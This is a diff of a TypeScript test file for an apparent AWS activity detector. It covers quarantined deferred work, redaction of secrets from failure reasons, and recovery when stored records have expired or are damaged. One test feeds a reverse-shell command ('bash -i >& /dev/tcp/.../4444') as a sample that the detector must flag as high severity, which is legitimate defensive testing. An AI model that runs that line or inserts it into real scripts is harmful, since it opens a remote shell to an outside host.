@@ -1,12 +1,20 @@
-import { DAY, MINUTE } from '../../../shared/model/time'
+import { redactAlert } from '../../../shared/command/redact-alert'
+import type { Finding } from '../../../shared/model/finding'
+import type { NativeCommand } from '../../../shared/model/normalized'
+import { DAY, HOUR, MINUTE } from '../../../shared/model/time'
+import { amendSoon } from '../../../shared/pipeline/amend'
 import { DEFERRED_WORK, taskOf } from '../../../shared/pipeline/deferred-work'
 import type { Quarantined } from '../../../shared/contracts/quarantined'
 import { processActivity } from '../../../shared/pipeline/process-activity'
+import { processNative } from '../../../shared/pipeline/process-native'
+import { holdForSummary } from '../../../shared/pipeline/rate-limit'
 import { restoreWork } from '../../../shared/pipeline/restore-work'
 import { sampleAlert } from '../../../shared/pipeline/sample-alert'
-import { Impossible } from '../../../shared/pipeline/send'
+import { Impossible } from '../../../shared/pipeline/impossible'
 import { sweep } from '../../../shared/pipeline/sweep'
 import { Unreadable } from '../../../shared/state/codec'
+import { ACTIVITY, CALL } from '../../../shared/state/kinds'
+import { RESEND } from '../../../shared/state/works'
 import { textState } from '../../../shared/state/text-store'
 import { agentProcess, awsActivity, NOON } from '../../support/activity'
 import { testClock } from '../../support/clock'
@@ -84,9 +92,7 @@ describe('deferred work of an older version', () => {
       expect(texts.deferred.size).toBe(0)
       expect(detector.alerts.length + quarantined.length).toBe(1)
       expect(quarantined.map(({ reason }) => reason)).toEqual([
-        expect.stringMatching(
-          new RegExp(`^deferred work given up: Unreadable: got undefined, expected .* at ${member}`),
-        ),
+        expect.stringMatching(new RegExp(`^deferred work given up: Unreadable: got nothing, expected .* at ${member}`)),
       ])
     },
   )
@@ -112,6 +118,32 @@ describe('given-up work in quarantine', () => {
     expect(quarantined).toHaveLength(2)
     expect(JSON.stringify(quarantined)).not.toContain('correct-horse')
     expect(JSON.stringify(quarantined)).toContain('--password=[redacted]')
+  })
+
+  it.each([
+    ['a text where an object should be', { ...awsActivity(), document: SECRET }],
+    ['a text where a time should be', { ...awsActivity(), at: SECRET }],
+    ['a text where a known word should be', { ...awsActivity(), outcome: SECRET }],
+  ])('is explained without quoting it: %s', async (_what, body) => {
+    const { texts, detector, quarantined, notices } = watched()
+    texts.deferOld('judge/x', JSON.stringify(body), 0)
+    await sweep(detector)
+    expect(quarantined.map(({ reason }) => reason)).toEqual([expect.stringContaining('Unreadable: got a string')])
+    expect(JSON.stringify([quarantined, notices])).not.toContain('correct-horse')
+  })
+
+  it('is explained in a few words, without secrets that a service quoted', async () => {
+    const { detector, quarantined, notices } = watched()
+    const sinks = [{ name: 'test', send: async () => Promise.reject(new Impossible(`${SECRET} ${'x'.repeat(5_000)}`)) }]
+    await detector.ports.state.defer(
+      RESEND,
+      'test/x/y',
+      { since: 0, alert: redactAlert(sampleAlert(NOON, 'alert')) },
+      0,
+    )
+    await sweep({ ...detector, ports: { ...detector.ports, sinks } })
+    expect(JSON.stringify([quarantined[0]?.reason, notices])).not.toContain('correct-horse')
+    expect(quarantined[0]?.reason.length).toBeLessThan(600)
   })
 
   it('carries what was judged of its activity', async () => {
@@ -167,6 +199,102 @@ describe('given-up work from quarantine', () => {
     const { texts, detector } = watched()
     await expect(restoreWork(detector.ports, body)).rejects.toThrow(Unreadable)
     expect(texts.deferred.size).toBe(0)
+  })
+})
+
+const [finding] = sampleAlert(NOON, 'alert').findings as readonly [Finding]
+
+const NATIVE_EVENT: NativeCommand = {
+  id: 'n1',
+  commandId: 'c1',
+  at: NOON,
+  account: '123456789012',
+  region: 'eu-west-1',
+  document: 'AWS-RunShellScript',
+  text: 'date',
+  instances: ['i-1'],
+}
+
+describe('given-up work whose basis has expired since', () => {
+  const expired = (texts: MemoryTexts): void => {
+    texts.items.clear()
+    texts.sets.clear()
+  }
+  const failing = (key: string) => ({ ...taskOf(key)!, run: async () => Promise.reject(new Impossible('not now')) })
+
+  it('still judges a command that only native events know', async () => {
+    const { texts, detector, quarantined } = watched()
+    detector.clock.time = NOON
+    const text = 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'
+    const native = { id: 'n1', commandId: 'c1', at: NOON, account: '123456789012', region: 'eu-west-1' }
+    await processNative(detector, { ...native, document: 'AWS-RunShellScript', text, instances: ['i-1'] })
+    detector.clock.time += HOUR
+    await sweep(detector, { tasks: [failing('native/c1')] })
+    expired(texts)
+    await restoreWork(detector.ports, quarantined[0]!.body)
+    await sweep(detector)
+    expect(detector.alerts.map(({ severity }) => severity)).toEqual(['high'])
+  })
+
+  it('still names every alert of the hour', async () => {
+    const { texts, detector, quarantined } = watched()
+    await holdForSummary(detector, { ...sampleAlert(NOON, 'alert'), id: '1'.repeat(32), activities: ['a1'] })
+    await holdForSummary(detector, { ...sampleAlert(NOON, 'alert'), id: '2'.repeat(32), activities: ['a2'] })
+    detector.clock.time += 2 * HOUR
+    await sweep(detector, { tasks: [failing('digest/0')] })
+    expired(texts)
+    await restoreWork(detector.ports, quarantined[0]!.body)
+    await sweep(detector)
+    expect(detector.alerts).toMatchObject([{ kind: 'digest', repeats: 2, activities: ['a1', 'a2'] }])
+  })
+})
+
+describe('work whose basis is gone or damaged', () => {
+  it.each([
+    ['native/c1', 'c1', []],
+    ['native/c1', 'c1', [['native/d0f631ca1ddba8db', '{"text":null}']]],
+    ['digest/5', JSON.stringify(sampleAlert(NOON, 'alert')), []],
+  ])('is never silently done: %s', async (key, body, items) => {
+    const { texts, detector, quarantined } = watched()
+    for (const [item, value] of items)
+      await texts.write(item!, { value: value!, schema: 0 }, null, Number.MAX_SAFE_INTEGER)
+    texts.deferOld(key, body, 0)
+    await sweep(detector)
+    expect(quarantined).toMatchObject([
+      { reason: expect.stringMatching(/are gone, or cannot be read$/), body: { key } },
+    ])
+  })
+
+  it('is given up when its activity was never judged, whatever the store takes to answer', async () => {
+    const { texts, detector, quarantined } = watched()
+    const { state } = detector.ports
+    const read: typeof state.read = (kind, ids) => {
+      detector.clock.time++
+      return state.read(kind, ids)
+    }
+    const slow = { ...detector, ports: { ...detector.ports, state: { ...state, read } } }
+    await amendSoon(slow, 'never', finding)
+    for (let round = 0; round < 400; round++, detector.clock.time += 5 * MINUTE) await sweep(slow)
+    expect(texts.deferred.size).toBe(0)
+    expect(quarantined).toMatchObject([{ body: { key: `amend/never/${finding.rule}` } }])
+  })
+
+  it('does not stop an activity that has a finding about it, or an event of its command', async () => {
+    const { texts, detector, quarantined } = watched()
+    detector.clock.time = NOON
+    const later = Number.MAX_SAFE_INTEGER
+    await texts.write(ACTIVITY.key('damaged'), { value: '{"activity":{}}', schema: 0 }, null, later)
+    await texts.write(CALL.key('c1'), { value: 'damaged', schema: 0 }, null, later)
+    await amendSoon(detector, 'damaged', finding)
+    await processNative(detector, NATIVE_EVENT)
+    detector.clock.time += HOUR
+    await sweep(detector)
+    expect(texts.deferred.size).toBe(0)
+    const reason = expect.stringContaining('the record of activity damaged cannot be read')
+    expect(quarantined).toMatchObject([
+      { reason, body: { key: `amend/damaged/${finding.rule}` } },
+      { reason, body: { key: 'native/c1' } },
+    ])
   })
 })
 
